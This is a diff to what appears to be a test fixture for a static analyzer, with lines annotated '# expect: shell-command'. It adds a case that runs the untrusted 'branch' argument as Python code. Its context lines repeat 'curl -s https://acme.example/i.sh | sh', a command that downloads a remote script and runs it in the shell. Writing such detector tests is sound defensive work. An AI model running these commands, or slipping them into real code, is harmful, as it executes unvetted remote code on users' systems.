@@ -13,6 +13,8 @@ def main(branch):
     subprocess.run(["sh", "-c", "curl -s https://acme.example/i.sh | sh"])  # expect: shell-command
     subprocess.run(["sh", "-c", "git status"])
     subprocess.run([sys.executable, "-m", "notes"])
+    subprocess.run([sys.executable, "-c", "import platform; print(platform.mac_ver())"])
+    subprocess.run([sys.executable, "-c", branch])  # expect: shell-command
     partial(os.system, "curl -s https://acme.example/i.sh | sh")()  # expect: shell-command
     threading.Thread(target=os.system, args=("curl -s https://acme.example/i.sh | sh",)).start()  # expect: shell-command
     threading.Thread(target=os.system, args=("git status",)).start()
